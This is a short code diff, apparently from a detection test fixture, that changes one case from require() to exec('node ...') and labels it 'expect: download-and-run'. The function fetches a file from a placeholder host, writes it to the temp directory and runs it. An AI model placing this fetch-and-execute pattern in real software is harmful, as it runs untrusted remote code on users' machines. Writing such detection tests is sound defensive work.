@@ -28,7 +28,7 @@ async function third() {
   const answer = await fetch('https://files.acme-cdn.example/c');
   const target = path.join(os.tmpdir(), 'third.js');
   fs.writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
-  require(target); // expect: download-and-run
+  exec(`node ${target}`); // expect: download-and-run
 }
 
 async function fourth() {
